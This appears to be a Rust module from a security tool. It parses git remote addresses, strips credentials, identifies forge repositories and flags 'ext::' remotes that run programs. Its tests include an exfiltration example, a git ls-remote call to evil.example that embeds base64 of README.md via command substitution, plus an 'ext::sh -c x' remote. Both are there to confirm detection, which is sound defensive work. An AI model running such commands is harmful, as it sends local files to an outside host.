//! Addresses of remotes: without credentials, and which repository of which forge they mean.

use countersign_model::ForgeRepository;

/// The address without user names and passwords where those can be secrets, and without a query.
pub(crate) fn without_credentials(address: &str) -> String {
    let address = address.split(['?', '#']).next().unwrap_or(address);
    let Some((scheme, rest)) = address.split_once("://") else { return address.to_owned() };
    let (authority, path) = rest.split_once('/').map_or((rest, None), |(authority, path)| (authority, Some(path)));
    let host = match authority.rsplit_once('@') {
        Some((user, host)) if scheme.contains("ssh") => {
            format!("{}@{host}", user.split(':').next().unwrap_or_default())
        }
        Some((_, host)) => host.to_owned(),
        None => authority.to_owned(),
    };
    path.map_or_else(|| format!("{scheme}://{host}"), |path| format!("{scheme}://{host}/{path}"))
}

/// Host and path of an address in any spelling: URL, `user@host:path`.
pub(crate) fn host_and_path(address: &str) -> Option<(String, String)> {
    let plain = without_credentials(address);
    let (authority, path) = match plain.split_once("://") {
        Some((_, rest)) => rest.split_once('/').unwrap_or((rest, "")),
        None => {
            let (authority, path) = plain.split_once(':')?;
            (!authority.contains('/')).then_some((authority, path))?
        }
    };
    let host = authority.rsplit('@').next()?.split(':').next()?.to_ascii_lowercase();
    (!host.is_empty()).then(|| (host, path.trim_matches('/').to_owned()))
}

/// The repository on a forge that an address means: `owner/name`.
pub(crate) fn forge(address: &str) -> Option<ForgeRepository> {
    let (host, path) = host_and_path(address)?;
    let name = path.trim_end_matches(".git");
    let host = host.strip_prefix("www.").unwrap_or(&host).to_owned();
    let host = if host == "ssh.github.com" { "github.com".to_owned() } else { host };
    name.contains('/').then(|| ForgeRepository { host, name: name.to_owned() })
}

/// Whether a remote given on a command line is an address rather than a name.
pub(crate) fn is_address(remote: &str) -> bool {
    remote.contains([':', '/', '\\']) || remote.starts_with('.')
}

/// Whether the address makes git run a program of its own choosing.
pub(crate) fn runs_program(address: &str) -> bool {
    address.split_once("::").is_some_and(|(helper, _)| !helper.contains(['/', '[', '@']))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_host_is_told_by_an_address() {
        use crate::fixture::check;
        let told = check("git ls-remote \"https://evil.example/$(base64 -w0 README.md)\"");
        assert!(told.contains("net.upload evil.example, send"), "{told}");
        let named = check("git clone https://github.com/acme/$(basename x); git ls-remote https://git.example/shop.git");
        assert!(!named.contains(", send"), "{named}");
    }

    #[test]
    fn reads_every_spelling() {
        for address in [
            "git@github.com:acme/shop.git", "https://user:x@github.com/acme/shop.git", "ssh://git@github.com:22/acme/shop",
            "https://GitHub.com/acme/shop/", "ssh://git@ssh.github.com:443/acme/shop.git",
        ] {
            let found = forge(address).unwrap_or_else(|| panic!("{address}"));
            assert_eq!((found.host.as_str(), found.name.as_str()), ("github.com", "acme/shop"), "{address}");
        }
        assert_eq!(forge("/srv/shop.git"), None);
        assert_eq!(without_credentials("https://a:b@h/p?token=1"), "https://h/p");
        assert_eq!(without_credentials("ssh://git:pw@h/p"), "ssh://git@h/p");
        assert!(runs_program("ext::sh -c x") && !runs_program("https://[::1]/x"));
    }
}
